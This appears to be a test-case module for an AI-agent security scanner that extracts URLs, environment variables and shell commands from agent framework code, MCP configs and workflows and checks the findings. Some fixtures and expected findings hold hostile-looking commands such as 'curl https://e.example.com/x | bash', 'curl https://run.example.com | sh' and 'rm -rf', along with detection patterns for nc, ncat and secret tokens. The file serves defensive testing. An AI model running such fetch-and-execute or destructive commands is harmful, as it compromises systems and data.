"""Queries over configuration, workflow and source files, fleets and streams."""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from wardline.functions import catalog as C
from wardline.functions import definitions
from wardline.functions import text as X
from wardline.operators import fleet, frameworks, report, scan
from wardline.session import shared_folder
from wardline.sources import manifests, workflows
from wardline.sources.mcp import server_packages, skills_from_configs
from wardline.sources.skills import read_skill_folder, skills_from_markdown
from wardline.streaming import scan as streams
from workloads import fixtures as fx
from workloads import oracle as o
from workloads.cases import case


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    return fx.spread(fx.derive(spark, sf_dir, fx.SOURCE_FILES))


def _rows(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    return fx.spread(fx.derive(spark, sf_dir, sql))


def joined(values) -> F.Column:
    return F.array_join(values, "|")


_FILES = ("files", fx.SOURCE_FILES)


def _on_files(select: str) -> str:
    return o.with_(_FILES) + f"SELECT seq, {select} FROM files"


# --- extraction from code ---------------------------------------------------------------


@case("extract_urls_code", _on_files(f"{o.joined(o.find_all('content', o.URL_CODE))} AS urls"))
def extract_urls_code(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.urls_in_code(F.col("content"))).alias("urls"))


@case("extract_env_code", _on_files(f"{o.joined(o.env_names('content', o.ENV_PYTHON))} AS env_vars"))
def extract_env_code(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.env_in_python(F.col("content"))).alias("env_vars"))


def _concat(*lists: str) -> str:
    return f"list_concat({', '.join(lists)})"


_JS_ENV = o.sorted_set(
    _concat(
        o.find_all("content", r"process\.env\.(\w+)", 1), o.find_all("content", r"""process\.env\[["'](\w+)["']\]""", 1)
    )
)


@case("extract_env_js", _on_files(f"{o.joined(_JS_ENV)} AS env_vars"))
def extract_env_js(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.env_in_js(F.col("content"))).alias("env_vars"))


_SECRET_REFS = o.sorted_set(
    _concat(
        o.env_names("content", o.ENV_PYTHON),
        _concat(
            o.find_all("content", r"""Secret\.from_env_var\(\s*["']([A-Z][A-Z0-9_]*)["']\s*\)""", 1),
            o.find_all("content", r"""["']env:([A-Z][A-Z0-9_]+)["']""", 1),
        ),
    )
)


@case("extract_env_secret_ref", _on_files(f"{o.joined(_SECRET_REFS)} AS env_vars"))
def extract_env_secret_ref(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.env_secret_refs(F.col("content"))).alias("env_vars"))


_CALLS = (
    r"""(?:subprocess\.(?:run|call|check_call|check_output|Popen)|os\.(?:system|popen))\s*\(\s*["']([^"']+)["']"""
)


@case("extract_shell_calls", _on_files(f"{o.joined(o.find_all('content', _CALLS, 1))} AS commands"))
def extract_shell_calls(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.shell_call_strings(F.col("content"))).alias("commands"))


_VERBS = r"(?:curl|wget|bash|sh|rm|chmod|chown|pip|npm|apt-get|yum|docker|kubectl|ssh|scp|nc|ncat)\s+[^\n]{3,}"
_QUOTED = _VERBS.replace(r"[^\n]", r"""[^\n'"]""")


@case(
    "extract_shell_verbs",
    _on_files(
        f"{o.joined(o.find_all('content', _VERBS))} AS line_commands, {o.joined(o.find_all('content', _QUOTED))} AS quoted_commands"
    ),
)
def extract_shell_verbs(spark, sf_dir):
    text = F.col("content")
    return files(spark, sf_dir).select(
        "seq",
        joined(X.shell_verb_lines(text)).alias("line_commands"),
        joined(X.shell_verb_lines(text, stop_at_quotes=True)).alias("quoted_commands"),
    )


_EXEC = r"""(?:execSync|exec|spawn|execFile|execFileSync)\s*\(\s*['"]([^'"]+)['"]"""
_MARKERS = "concat_ws('|', " + ", ".join(
    f"CASE WHEN regexp_matches(content, {o.q(m)}) THEN {o.q(m)} END"
    for m in (r"\bchild_process\b", r"\bexec\s*\(", r"\bexecSync\s*\(", r"\bspawn\s*\(", r"\bspawnSync\s*\(")
) + ")"


@case("extract_js_exec", _on_files(f"{o.joined(o.find_all('content', _EXEC, 1))} AS commands, {_MARKERS} AS markers"))
def extract_js_exec(spark, sf_dir):
    text = F.col("content")
    return files(spark, sf_dir).select(
        "seq", joined(X.js_exec_strings(text)).alias("commands"), joined(X.js_exec_markers(text)).alias("markers")
    )


_IMPORTS = (
    "list_sort(list_distinct(list_transform(flatten(list_transform(list_filter(list_transform(str_split(content, chr(10)),"
    f" lambda l: trim(l, {o.BLANKS})), lambda l: starts_with(l, 'import ') OR starts_with(l, 'from ')),"
    " lambda l: CASE WHEN starts_with(l, 'from ') THEN [l[6:]] ELSE str_split(l[8:], ',') END)),"
    rf" lambda p: regexp_extract(trim(p, {o.BLANKS}), '^[^\s.;]*', 0))))"
)


@case("extract_imports", _on_files(f"{o.joined(_IMPORTS)} AS imports"))
def extract_imports(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.python_imports(F.col("content"))).alias("imports"))


_REQUIRES = o.sorted_set(o.find_all("content", r"""require\s*\(\s*['"]([^'"]+)['"]\s*\)""", 1))


@case("extract_requires", _on_files(f"{o.joined(_REQUIRES)} AS requires"))
def extract_requires(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.js_requires(F.col("content"))).alias("requires"))


_REFS = o.sorted_set(
    _concat(
        f"list_transform({o.find_all('content', r'\bAction\.([A-Z][A-Z0-9_]+)\b', 1)}, lambda a: 'action:' || a)",
        f"list_transform({o.find_all('content', r'\bApp\.([A-Z][A-Z0-9_]+)\b', 1)}, lambda a: 'app:' || a)",
    )
)


@case("extract_action_refs", _on_files(f"{o.joined(_REFS)} AS refs"))
def extract_action_refs(spark, sf_dir):
    return files(spark, sf_dir).select("seq", joined(X.action_refs(F.col("content"))).alias("refs"))


# --- frameworks --------------------------------------------------------------------------

# Formats of each snippet's file, by slot, as a reader of the snippets would list them.
_FORMATS = (
    (0, "langchain"), (1, "crewai"), (1, "langchain"), (2, "openai_agents"), (3, "google_adk"), (4, "autogen"), (5, "composio"),
    (6, "semantic_kernel"), (7, "llamaindex"), (8, "mastra"), (9, "pydanticai"), (10, "agno"), (11, "camel"), (12, "metagpt"),
    (13, "haystack"), (14, "anthropic_sdk"), (14, "langchain"), (15, "mcp_server"), (16, "mcp_server"), (20, "openai_agents"),
    (21, "google_adk"), (22, "langchain"), (23, "autogen"), (24, "composio"), (25, "semantic_kernel"), (26, "llamaindex"),
    (27, "pydanticai"), (28, "camel"), (29, "metagpt"), (30, "haystack"), (31, "anthropic_sdk"), (32, "mcp_server"), (33, "claude"),
    (34, "openclaw"), (35, "dify"),
)
# Their definitions: slot, format, kind, name, description.
_DEFINITIONS = (
    (0, "langchain", "class", "Search", ""),
    (1, "crewai", "function", "lookup", ""),
    (1, "langchain", "function", "lookup", ""),
    (2, "openai_agents", "function_tool", "weather", ""),
    (2, "openai_agents", "function_tool", "news", ""),
    (3, "google_adk", "agent", "helper_agent", "Google ADK agent (model=m)"),
    (4, "autogen", "function", "plan", ""),
    (5, "composio", "action", "x", ""),
    (6, "semantic_kernel", "function", "greet", "[P] "),
    (7, "llamaindex", "function_tool", "f", ""),
    (7, "llamaindex", "agent", "ReActAgent", "LlamaIndex ReActAgent agent"),
    (8, "mastra", "tool", "fetch-page", "Gets a page"),
    (8, "mastra", "agent", "guide", "Mastra agent: Be kind"),
    (9, "pydanticai", "agent", "agent_openai_gpt", "model=openai:gpt"),
    (9, "pydanticai", "function", "roll", ""),
    (10, "agno", "agent", "web helper", "Agno agent (model=m)"),
    (10, "agno", "toolkit", "Kit", ""),
    (11, "camel", "toolkit", "SearchToolkit", "CAMEL-AI SearchToolkit"),
    (11, "camel", "toolkit", "MathToolkit", "CAMEL-AI MathToolkit"),
    (11, "camel", "agent", "ChatAgent", "CAMEL-AI ChatAgent"),
    (12, "metagpt", "class", "Writer", "[Role]"),
    (12, "metagpt", "function", "count", "[Tool]"),
    (13, "haystack", "tool", "search_docs", ""),
    (14, "anthropic_sdk", "function", "read_it", ""),
    (14, "langchain", "function", "read_it", ""),
    (15, "mcp_server", "tool", "list_files", ""),
    (15, "mcp_server", "server", "server", "MCP server (1 tools): list_files"),
    (16, "mcp_server", "server", "server", "MCP server (0 tools): "),
    (20, "openai_agents", "function_tool", "find", "Finds things."),
    (20, "openai_agents", "agent", "helper", ""),
    (20, "openai_agents", "hosted_tool", "WebSearchTool", "OpenAI hosted tool: WebSearchTool"),
    (20, "openai_agents", "mcp_server", "MCPServerStdio", "MCP server connection via MCPServerStdio"),
    (20, "openai_agents", "mcp_server", "https://m.example.com", "MCP server connection via MCPServerHTTP"),
    (21, "google_adk", "agent", "dice", "Google ADK agent (model=)"),
    (21, "google_adk", "function_tool", "roll", ""),
    (21, "google_adk", "callback", "guard", ""),
    (21, "google_adk", "mcp_toolset", "MCPToolset", "MCP connection: "),
    (22, "langchain", "class", "Deep", ""),
    (22, "langchain", "function", "look", ""),
    (23, "autogen", "schema", "fetch_it", ""),
    (24, "composio", "module", "refs", ""),
    (25, "semantic_kernel", "function", "wave", "[P] Waves."),
    (26, "llamaindex", "reader", "WikipediaReader", "Data connector: WikipediaReader"),
    (27, "pydanticai", "function", "spin", ""),
    (28, "camel", "function_tool", "add", ""),
    (29, "metagpt", "function", "sum_up", "[Tool]"),
    (29, "metagpt", "class", "Boss", "[Role]"),
    (30, "haystack", "component", "reader", "Haystack component: R"),
    (31, "anthropic_sdk", "agent", "critic", ""),
    (31, "anthropic_sdk", "mcp_server", "local", ""),
    (31, "anthropic_sdk", "hook", "hook", ""),
    (32, "mcp_server", "tool", "run", "Runs it."),
    (32, "mcp_server", "server", "server2", "MCP server (1 tools): run"),
)


def _by_slot(rows, columns: str) -> str:
    listed = ", ".join("(" + ", ".join(str(v) if isinstance(v, int) else o.q(v) for v in row) + ")" for row in rows)
    return f"SELECT seq, path, {columns} FROM files JOIN (VALUES {listed}) AS e(slot, {columns}) ON seq % {len(fx.SNIPPETS)} = slot"


_DETECT = _by_slot(_FORMATS, "format")


@case("framework_detect", o.with_(_FILES) + _DETECT)
def framework_detect(spark, sf_dir):
    return frameworks.detect(files(spark, sf_dir))


@case("framework_definitions", o.with_(_FILES) + _by_slot(_DEFINITIONS, "format, kind, name, description"))
def framework_definitions(spark, sf_dir):
    return frameworks.definitions(files(spark, sf_dir))


_VIOLATION = "Capability violation: skill requires {0} but only declares up to {1}:NONE (undeclared)"
_ENV, _RUN, _NET = (
    (_VIOLATION.format(need, need.split(":")[0]), "privilege_escalation", "capability_violation", f"inferred={need}")
    for need in ("environment:READ", "shell:WRITE", "network:READ")
)


def _variable(name: str):
    return f"Sensitive environment variable accessed: {name}", "data_exfiltration", "pattern_match", name


def _url(url: str):
    return f"External URL detected: {url}", "data_exfiltration", "pattern_match", url


def _pattern(message: str, evidence: str):
    return message, "privilege_escalation", "pattern_match", evidence


# Findings of the definitions' own texts, as a reader of the snippets would list them: slot, definition, severity,
# message, attack class, finding type, evidence ('*': the whole file).
_SOURCE_FINDINGS = (
    (4, "plan", 4, *_pattern("Destructive operation: recursive forced removal (rm -rf)", "rm -rf /tmp/q")),
    (8, "fetch-page", 3, *_ENV),
    (8, "fetch-page", 3, *_variable("API_TOKEN")),
    (8, "guide", 3, *_ENV),
    (8, "guide", 3, *_variable("API_TOKEN")),
    (13, "search_docs", 3, *_variable("HAY_TOKEN")),
    (15, "server", 3, *_RUN),
    (15, "server", 3, *_pattern("Dynamic code evaluation: exec() can run arbitrary code", "*")),
    (15, "server", 3, *_ENV),
    (16, "server", 3, *_variable("MCP_SECRET")),
    (16, "server", 3, *_ENV),
    (20, "https://m.example.com", 3, *_url("https://m.example.com")),
    (20, "https://m.example.com", 3, *_NET),
    (32, "server2", 3, *_NET),
    (32, "server2", 3, *_RUN),
    (32, "server2", 4, *_pattern("Remote code: curl piped to shell", "curl https://e.example.com/x | bash")),
    (32, "server2", 3, *_url("https://e.example.com/x")),
)
_FINDING_COLUMNS = "skill_name, severity, message, attack_class, finding_type, evidence"


@case(
    "source_findings",
    o.with_(_FILES, ("found", _by_slot(_SOURCE_FINDINGS, _FINDING_COLUMNS).replace("SELECT seq, path,", "SELECT seq, content,")))
    + "SELECT seq, skill_name, severity, message, attack_class, finding_type,"
    " CASE WHEN evidence = '*' THEN content ELSE evidence END AS evidence FROM found",
)
def source_findings(spark, sf_dir):
    """Source files through their definitions to findings."""
    return scan.findings_of(scan.analyze(frameworks.skills_from_source(files(spark, sf_dir))))


@case(
    "framework_catalogue",
    o.with_(_FILES, ("detected", _DETECT), ("known", "SELECT unnest([" + ", ".join(o.q(f) for f in C.FRAMEWORKS) + "]) AS framework"))
    + "SELECT framework, count(d.seq) AS files FROM known LEFT JOIN detected d ON framework ="
    " CASE d.format WHEN 'mcp' THEN 'mcp_config' ELSE d.format END GROUP BY framework",
)
def framework_catalogue(spark, sf_dir):
    return report.catalogue_coverage(spark, frameworks.detect(files(spark, sf_dir)))


_PY, _JS_PATH = r"'\.py$'", r"'\.(ts|js|tsx|jsx)$'"


def _caps(*rules: tuple[str, str]) -> str:
    listed = ", ".join(f"CASE WHEN {test} THEN {o.q(cap)} END" for test, cap in rules)
    return f"array_to_string(list_sort(list_filter([{listed}], lambda c: c IS NOT NULL)), '|')"


def _any_import(*names: str) -> str:
    return "(" + " OR ".join(f"list_contains(imports, '{n}')" for n in names) + ")"


_SENSITIVE = "len(list_filter(env, lambda e: regexp_matches(e, '(?i)SECRET|KEY|TOKEN|PASSWORD|CREDENTIAL|PRIVATE'))) > 0"
_PY_NET, _PY_FILES = _any_import("httpx", "requests", "aiohttp", "urllib"), (
    r"(list_contains(imports, 'shutil') OR regexp_matches(content, '(^|[^\w.])open\s*\('))"
)
_JS_NET, _JS_FILES = r"regexp_matches(content, '\bfetch\s*\(|\baxios\b|\bhttp\.\w+')", r"regexp_matches(content, '\bfs\.\w+')"
_JS_RUN = r"regexp_matches(content, '\bchild_process\b|\bexec\s*\(|\bspawn\s*\(')"


@case(
    "code_capabilities",
    o.with_(
        _FILES,
        (
            "read",
            f"SELECT *, regexp_matches(path, {_PY}) AS python, {_IMPORTS} AS imports, CASE WHEN regexp_matches(path, {_PY})"
            f" THEN {o.env_names('content', o.ENV_PYTHON)} ELSE {_JS_ENV} END AS env FROM files"
            f" WHERE regexp_matches(path, {_PY}) OR regexp_matches(path, {_JS_PATH})",
        ),
    )
    + "SELECT seq, path, CASE WHEN python THEN "
    + _caps(
        (_PY_NET, "network:read"),
        (_PY_NET, "network:write"),
        ("list_contains(imports, 'subprocess')", "system:execute"),
        (_PY_FILES, "filesystem:read"),
        (_PY_FILES, "filesystem:write"),
        ("list_contains(imports, 'os')", "env:read"),
        (_SENSITIVE, "credentials:read"),
    )
    + " ELSE "
    + _caps(
        ("len(env) > 0", "env:read"),
        (_JS_NET, "network:read"),
        (_JS_NET, "network:write"),
        (_JS_FILES, "filesystem:read"),
        (_JS_FILES, "filesystem:write"),
        (_JS_RUN, "system:execute"),
        (_SENSITIVE, "credentials:read"),
    )
    + f" END AS capabilities, {_SENSITIVE} AS sensitive_env FROM read",
)
def code_capabilities(spark, sf_dir):
    return frameworks.code_capabilities(files(spark, sf_dir)).withColumn("capabilities", joined(F.col("capabilities")))


_COMPONENT_WORDS = """
SELECT p_partkey AS seq, CASE p_size%6 WHEN 0 THEN 'SearchToolkit' WHEN 1 THEN 'CodeExecutionToolkit' WHEN 2 THEN 'SlackToolkit'
    WHEN 3 THEN 'google_search' ELSE p_brand END AS toolkit,
  concat(replace(p_name, ' ', ''), CASE p_size%5 WHEN 0 THEN 'OpenAIGenerator' WHEN 1 THEN 'OpenAPIConnector' WHEN 2 THEN 'BM25Retriever'
    WHEN 3 THEN 'ToolInvoker' ELSE 'PDFConverter' END) AS component
FROM part
"""


@case(
    "toolkit_capabilities",
    o.with_(("words", _COMPONENT_WORDS))
    + "SELECT seq, CASE toolkit WHEN 'SearchToolkit' THEN 'network:read' WHEN 'CodeExecutionToolkit' THEN 'code:execute|filesystem:write'"
    " WHEN 'SlackToolkit' THEN 'network:read|network:write' ELSE '' END AS toolkit_caps, concat_ws('|',"
    " CASE WHEN lower(component) LIKE '%generator%' THEN 'llm:generate' END, CASE WHEN lower(component) LIKE '%openapi%' OR"
    " lower(component) LIKE '%connector%' THEN 'network:external_api' END, CASE WHEN lower(component) LIKE '%tool%' THEN 'tool:invoke' END,"
    " CASE WHEN lower(component) LIKE '%retriever%' THEN 'data:retrieve' END, CASE WHEN lower(component) LIKE '%converter%' THEN 'data:convert' END)"
    " AS component_caps, CASE toolkit WHEN 'google_search' THEN 'builtin:' ELSE 'tool:' END || toolkit AS reference_caps FROM words",
)
def toolkit_capabilities(spark, sf_dir):
    rows = _rows(spark, sf_dir, _COMPONENT_WORDS)
    return rows.select(
        "seq",
        joined(frameworks.toolkit_capabilities(F.col("toolkit"))).alias("toolkit_caps"),
        joined(definitions.component_capabilities(F.col("component"))).alias("component_caps"),
        joined(frameworks.tool_reference_capabilities(F.array("toolkit"))).alias("reference_caps"),
    )


# --- configuration and workflow documents ------------------------------------------------

_CONFIGS = ("configs", fx.MCP_CONFIGS)
_SERVERS = (
    "servers",
    "SELECT seq, path, folder, rank, s.key AS name, s.value AS server FROM (SELECT seq, path, regexp_extract(path, '^(.*/)[^/]*$', 1) AS folder,"
    " list_position(['mcp.json','mcp_servers.json','mcp_settings.json','mcp_config.json','.mcp.json','claude_desktop_config.json'],"
    " regexp_extract(path, '([^/]+)$', 1)) AS rank, content FROM configs WHERE json_valid(content)) c,"
    " LATERAL (SELECT key, value FROM json_each(c.content, '$.servers') UNION ALL SELECT key, value FROM json_each(c.content, '$.mcpServers')"
    " WHERE key NOT IN (SELECT key FROM json_each(c.content, '$.servers'))) s WHERE json_type(s.value) = 'OBJECT'",
)


@case(
    "src_mcp_config",
    o.with_(_CONFIGS, _SERVERS)
    + "SELECT seq, name, path AS source_path, CASE WHEN command IS NULL THEN 'MCP server: ' || name ELSE 'MCP server: ' || line END AS description,"
    " coalesce(line, '') AS commands, env AS env_vars, deps AS dependencies FROM (SELECT *, row_number() OVER (PARTITION BY folder, name ORDER BY rank, seq) AS rn,"
    " server->>'$.command' AS command, array_to_string(list_concat([server->>'$.command'], coalesce(from_json(server->'$.args', '[\"VARCHAR\"]'), [])), ' ') AS line,"
    " coalesce(array_to_string(list_sort(json_keys(server->'$.env')), '|'), '') AS env,"
    " array_to_string(list_filter(coalesce(from_json(server->'$.args', '[\"VARCHAR\"]'), []), lambda a: starts_with(a, '@') AND contains(a, '/')), '|') AS deps"
    " FROM servers) WHERE rn = 1",
)
def src_mcp_config(spark, sf_dir):
    found = skills_from_configs(_rows(spark, sf_dir, fx.MCP_CONFIGS))
    return found.select(
        "seq",
        "name",
        "source_path",
        "description",
        joined(F.col("shell_commands")).alias("commands"),
        joined(F.col("env_vars")).alias("env_vars"),
        joined(F.col("dependencies")).alias("dependencies"),
    )


@case(
    "extract_npm_args",
    o.with_(_CONFIGS, _SERVERS)
    + "SELECT seq, unnest(list_filter(coalesce(from_json(server->'$.args', '[\"VARCHAR\"]'), []),"
    " lambda a: starts_with(a, '@') AND contains(a, '/'))) AS package FROM servers",
)
def extract_npm_args(spark, sf_dir):
    return server_packages(_rows(spark, sf_dir, fx.MCP_CONFIGS)).select("seq", "package")


_FLOWS = ("flows", fx.WORKFLOWS)
_FLOW_NODES = (
    "nodes",
    "SELECT seq, path, content, from_json(content->'$.nodes', '[{\"type\":\"VARCHAR\",\"parameters\":\"JSON\",\"credentials\":\"JSON\"}]') AS nodes"
    " FROM flows WHERE json_valid(content) AND json_type(content) = 'OBJECT' AND content LIKE '%\"type\":\"n8n-nodes-%'",
)
_N8N_CAP = "CASE n.type WHEN 'n8n-nodes-base.httpRequest' THEN 'network_access' WHEN 'n8n-nodes-base.executeCommand' THEN 'shell_access' WHEN 'n8n-nodes-base.code' THEN 'code_execution' END"


@case(
    "src_workflow_nodes",
    o.with_(_FLOWS, _FLOW_NODES)
    + "SELECT seq, content->>'$.name' AS name, coalesce(content->>'$.versionId', 'unknown') AS version,"
    " 'n8n workflow: ' || (content->>'$.name') || '; Nodes: ' || array_to_string(types, ', ') AS description, array_to_string(types, '|') AS dependencies,"
    f" array_to_string(list_filter(list_transform(nodes, lambda n: {_N8N_CAP}), lambda c: c IS NOT NULL), '|') AS capabilities,"
    + f" array_to_string(flatten(list_transform(nodes, lambda n: {o.find_all('CAST(n.parameters AS VARCHAR)', o.URL)})), '|') AS urls,"
    + " coalesce(array_to_string(list_sort(list_distinct(flatten(list_transform(nodes, lambda n: CASE WHEN n.credentials IS NULL THEN [] ELSE"
    " ['httpBasicAuth', n.credentials->>'$.httpBasicAuth.name'] END)))), '|'), '') AS env_vars,"
    " array_to_string(flatten(list_transform(nodes, lambda n: CASE WHEN n.parameters->>'$.command' IS NOT NULL THEN [n.parameters->>'$.command']"
    r" WHEN n.parameters->>'$.jsCode' IS NOT NULL THEN regexp_extract_all(n.parameters->>'$.jsCode', '(?:curl|wget|bash|sh|rm|chmod|chown|pip|npm|apt-get|yum|docker|kubectl|ssh|scp|nc|ncat)\s+[^\n]{3,}')"
    " ELSE [] END)), '|') AS commands FROM (SELECT *, list_sort(list_distinct(list_transform(nodes, lambda n: n.type))) AS types FROM nodes)",
)
def src_workflow_nodes(spark, sf_dir):
    found = workflows.skills_from_workflows(_rows(spark, sf_dir, fx.WORKFLOWS))
    return found.select(
        "seq",
        "name",
        "version",
        "description",
        joined(F.col("dependencies")).alias("dependencies"),
        joined(F.col("declared_capabilities")).alias("capabilities"),
        joined(F.col("urls")).alias("urls"),
        joined(F.col("env_vars")).alias("env_vars"),
        joined(F.col("shell_commands")).alias("commands"),
    )


_CHATS = ("chats", fx.CHATFLOWS)
_KNOWN_CHATS = "json_valid(content) AND (content LIKE '%ChatOpenAI%' OR content LIKE '%Calculator%' OR content LIKE '%CustomTool%')"
_HAS_TOOL = "content LIKE '%CustomTool%'"
_CHAT_TYPES = (
    "array_to_string(list_sort(list_distinct(from_json(json_extract(content, '$.nodes[*].data.type')::JSON, '[\"VARCHAR\"]'))), '|')"
)


@case(
    "src_chatflow_nodes",
    o.with_(_CHATS)
    + "SELECT seq, 'c' || seq AS name, 'Flowise chatflow: ' || regexp_extract(content, 'Model [0-9]+') AS description,"
    f" {_CHAT_TYPES} AS capabilities, CASE WHEN {_HAS_TOOL} THEN 'axios' ELSE '' END AS dependencies, 'https://h.example.com/a' AS urls,"
    f" concat_ws('|', CASE WHEN {_HAS_TOOL} THEN 'API_TOKEN' END, 'apiKey', CASE WHEN content LIKE '%sk-1%' THEN 'openAIApiKey' END) AS env_vars,"
    f" CASE WHEN {_HAS_TOOL} THEN 'ls -la' ELSE '' END AS commands FROM chats WHERE {_KNOWN_CHATS}",
)
def src_chatflow_nodes(spark, sf_dir):
    found = workflows.skills_from_chatflows(_rows(spark, sf_dir, fx.CHATFLOWS))
    return found.select(
        "seq",
        "name",
        "description",
        joined(F.col("declared_capabilities")).alias("capabilities"),
        joined(F.col("dependencies")).alias("dependencies"),
        joined(F.col("urls")).alias("urls"),
        joined(F.col("env_vars")).alias("env_vars"),
        joined(F.col("shell_commands")).alias("commands"),
    )


@case(
    "extract_credentials",
    o.with_(_CHATS)
    + f"SELECT seq, concat_ws('|', 'apiKey', CASE WHEN content LIKE '%sk-1%' THEN 'openAIApiKey' END) AS credentials FROM chats WHERE {_KNOWN_CHATS}",
)
def extract_credentials(spark, sf_dir):
    flows = workflows.parse_chatflows(_rows(spark, sf_dir, fx.CHATFLOWS))
    return flows.select("seq", joined(workflows.chatflow_credentials(F.col("nodes"))).alias("credentials"))


@case(
    "node_capabilities",
    o.with_(_FLOWS, _FLOW_NODES, _CHATS)
    + f"SELECT 'n8n' AS format, seq, array_to_string(list_distinct(list_filter(list_transform(nodes, lambda n: {_N8N_CAP}), lambda c: c IS NOT NULL)), '|') AS capabilities"
    f" FROM nodes UNION ALL SELECT 'flowise', seq, {_CHAT_TYPES} FROM chats WHERE {_KNOWN_CHATS}",
)
def node_capabilities(spark, sf_dir):
    flows = workflows.skills_from_workflows(_rows(spark, sf_dir, fx.WORKFLOWS))
    chats = workflows.parse_chatflows(_rows(spark, sf_dir, fx.CHATFLOWS))
    left = flows.select("format", "seq", F.array_sort("declared_capabilities").alias("c"))
    right = chats.select(F.lit("flowise").alias("format"), "seq", workflows.chatflow_types(F.col("nodes")).alias("c"))
    return left.unionByName(right).select("format", "seq", joined(F.col("c")).alias("capabilities"))


@case(
    "npm_deps",
    "SELECT p_partkey AS seq, array_to_string(list_sort(list_distinct(list_concat(['@scope/a', 'left-' || p_size, 'jest', 'left-' || (p_size % 10)],"
    " CASE WHEN p_size > 30 THEN ['react'] ELSE [] END))), '|') AS dependencies FROM part",
)
def npm_deps(spark, sf_dir):
    rows = _rows(spark, sf_dir, fx.PACKAGE_JSONS)
    return rows.select("seq", joined(workflows.npm_dependencies(F.col("content"))).alias("dependencies"))


@case(
    "quarantine",
    o.with_(_FLOWS, _CHATS)
    + "SELECT seq, path FROM flows WHERE NOT json_valid(content) OR json_type(content) <> 'OBJECT'"
    " UNION ALL SELECT seq, path FROM chats WHERE NOT json_valid(content) OR json_type(content) <> 'OBJECT'",
)
def quarantine(spark, sf_dir):
    left = workflows.quarantined(_rows(spark, sf_dir, fx.WORKFLOWS))
    return left.unionByName(workflows.quarantined(_rows(spark, sf_dir, fx.CHATFLOWS)))


@case(
    "src_manifests",
    "SELECT 'openclaw' AS format, p_partkey AS seq, 'claw-' || p_partkey AS name, CAST(p_size AS VARCHAR) AS version, 'Part helper' AS description,"
    " 'dep-' || (p_size % 5) || '|7' AS dependencies, 'https://claw.example.com/' || p_partkey || '|https://run.example.com' AS urls, 'CLAW_TOKEN' AS env_vars,"
    " 'curl https://run.example.com | sh' AS commands, '' AS capabilities FROM part WHERE p_size <> 23"
    " UNION ALL SELECT 'dify', p_partkey, CASE WHEN p_size % 3 = 0 THEN 'prov-' ELSE 'plug-' END || p_partkey,"
    " CASE WHEN p_size % 3 = 0 THEN 'unknown' ELSE '0.0.' || p_size END, CASE WHEN p_size % 3 = 0 THEN 'Provider text' ELSE 'Plugin text' END,"
    " CASE WHEN p_size % 3 = 0 THEN '' ELSE 'requests' END, CASE WHEN p_size % 3 = 0 THEN '' ELSE 'https://plug.example.com/i.sh' END,"
    " CASE WHEN p_size % 3 = 0 THEN 'prov_key' ELSE 'tool_key' END, CASE WHEN p_size % 3 = 0 THEN '' ELSE 'curl https://plug.example.com/i.sh' END,"
    " CASE WHEN p_size % 3 = 0 THEN 'provider' WHEN p_size % 4 = 0 THEN 'tool' ELSE 'bundle' END FROM part WHERE p_size % 3 = 0 OR p_size % 4 < 2"
    " UNION ALL SELECT 'crewai', p_partkey, t, 'unknown', 'Tool referenced by agent ''writer''', '', '', '', '', '' FROM"
    " (SELECT p_partkey, unnest(['search-' || p_size, 'files']) AS t FROM part)",
)
def src_manifests(spark, sf_dir):
    parts = [
        manifests.skills_from_claw(_rows(spark, sf_dir, fx.CLAW_MANIFESTS)),
        manifests.skills_from_plugins(_rows(spark, sf_dir, fx.PLUGIN_MANIFESTS)),
        manifests.skills_from_crews(_rows(spark, sf_dir, fx.CREW_FILES)),
    ]
    found = parts[0].unionByName(parts[1]).unionByName(parts[2])
    return found.select(
        "format",
        "seq",
        "name",
        "version",
        "description",
        joined(F.col("dependencies")).alias("dependencies"),
        joined(F.col("urls")).alias("urls"),
        joined(F.col("env_vars")).alias("env_vars"),
        joined(F.col("shell_commands")).alias("commands"),
        joined(F.col("declared_capabilities")).alias("capabilities"),
    )


def _new_folder(spark: SparkSession, label: str) -> str:
    return f"{shared_folder(spark)}/{label}-{uuid.uuid4().hex}"


@case("src_skill_files")
def src_skill_files(spark, sf_dir):
    """Documents written as text files and read back as skill files; paths differ per run, so there is no SQL."""
    folder = _new_folder(spark, "skill-files")
    texts = fx.derive(spark, sf_dir, fx.SKILL_CORPUS).select(F.col("format").alias("source"), "raw_content")
    texts.write.partitionBy("source").option("maxRecordsPerFile", 25).text(folder)
    return read_skill_folder(spark, folder, "*.txt").select("name", "description", "urls", "env_vars", "shell_commands")


# --- fleet and streams ---------------------------------------------------------------------


@case(
    "fleet_inventory",
    o.with_(
        ("paths", f"SELECT DISTINCT host, platform, path FROM ({fx.FLEET_PATHS})"),
        (
            "hits",
            "SELECT p.host, r.* FROM paths p JOIN (VALUES ('.claude', 'Claude Code', 'claude', 'all', 'present', true),"
            " ('.claude/skills', 'Claude Code', 'claude', 'all', 'skills', true), ('.cursor/mcp.json', 'Cursor', 'cursor', 'all', 'config', true),"
            " ('.vscode', 'VS Code', 'vscode', 'macos', 'present', true), ('.vscode', 'VS Code (Linux)', 'vscode-linux', 'linux', 'present', true),"
            " ('.config/Code/User/mcp.json', 'VS Code (Linux)', 'vscode-linux', 'linux', 'config', false),"
            " ('.config/Code/User/mcp.json', 'Unknown (.config)', 'config', 'all', 'config', true),"
            " ('Library/Application Support/Code/User/mcp.json', 'VS Code', 'vscode', 'macos', 'config', false),"
            " ('.gemini/settings.json', 'Gemini CLI', 'gemini', 'all', 'config', true), ('.newtool/a/mcp_config.json', 'Unknown (.newtool)', 'newtool', 'all', 'config', true),"
            " ('.other/skills', 'Unknown (.other)', 'other', 'all', 'skills', true), ('.kiro', 'Kiro', 'kiro', 'all', 'present', true),"
            " ('.roo/x/y/mcp.json', 'Roo Code', 'roo', 'all', 'config', true)) AS r(path, tool, short_name, platform, role, inside)"
            " ON r.path = p.path AND (r.platform = 'all' OR r.platform = p.platform)",
        ),
    )
    + "SELECT host, tool, short_name, count(*) FILTER (role = 'config') AS config_files, count(*) FILTER (role = 'skills') AS skill_dirs"
    " FROM hits GROUP BY host, tool, short_name HAVING bool_or(inside)",
)
